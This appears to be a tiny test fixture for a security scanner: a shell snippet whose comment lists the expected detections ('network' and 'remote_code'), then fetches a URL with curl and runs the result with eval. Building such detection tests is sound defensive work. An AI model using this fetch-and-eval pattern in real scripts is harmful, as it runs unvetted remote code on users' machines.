# expect: network@2 remote_code@3
code=$(curl -s https://example.com/x)
eval "$code"
